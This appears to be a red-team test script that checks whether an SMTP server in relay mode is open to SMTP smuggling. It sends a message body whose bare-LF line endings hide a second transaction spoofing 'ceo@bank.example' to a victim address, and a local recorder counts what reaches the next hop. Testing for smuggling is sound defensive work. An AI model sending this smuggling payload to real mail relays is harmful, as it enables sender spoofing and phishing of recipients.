#!/usr/bin/env python3
"""redteam §2: SMTP smuggling through --relay. A body with bare LF/CR is
accepted (BDAT BODY=BINARYMIME by default; DATA with --line-endings
record) and relayed; a lenient recording next hop counts the messages and
MAIL commands it saw. Safe: 1 message, 1 MAIL per relayed message.

usage: relay_smuggle.py BINARY"""
import sys
import time

from d_common import Recorder, Smtp, bdat, start, stop

BODY = (b"Subject: s\r\n\r\nhello\n.\nMAIL FROM:<ceo@bank.example>\n"
        b"RCPT TO:<victim@example.net>\nDATA\nevil\n.\n")


def wait_for(rec, count, limit=5.0):
    deadline = time.time() + limit
    while time.time() < deadline and rec.messages < count:
        time.sleep(0.05)
    time.sleep(0.3)  # anything after the first message, too


def main():
    binary = sys.argv[1]
    # Default mode, BDAT + BINARYMIME.
    rec = Recorder()
    proc, smtp, _ = start(binary, "--relay", f"smtp://127.0.0.1:{rec.port}")
    try:
        code = bdat(smtp, "a@example.com", ["b@example.com"], BODY)
        wait_for(rec, 2)
        mails = [c for c in rec.commands if c.upper().startswith("MAIL")]
        print(f"BDAT BINARYMIME: accepted {code}; next hop saw "
              f"{rec.messages} message(s), MAIL commands: {mails}")
    finally:
        stop(proc)
        rec.close()
    # --line-endings record, DATA.
    rec = Recorder()
    proc, smtp, _ = start(binary, "--line-endings", "record",
                          "--relay", f"smtp://127.0.0.1:{rec.port}")
    try:
        s = Smtp(smtp)
        s.cmd("EHLO client.example")
        s.cmd("MAIL FROM:<a@example.com>")
        s.cmd("RCPT TO:<b@example.com>")
        s.cmd("DATA")
        s.send(BODY)
        code, _ = s.cmd("\r\n.")
        s.close()
        wait_for(rec, 2)
        mails = [c for c in rec.commands if c.upper().startswith("MAIL")]
        print(f"DATA --line-endings record: accepted {code}; next hop saw "
              f"{rec.messages} message(s), MAIL commands: {mails}")
    finally:
        stop(proc)
        rec.close()


if __name__ == "__main__":
    main()
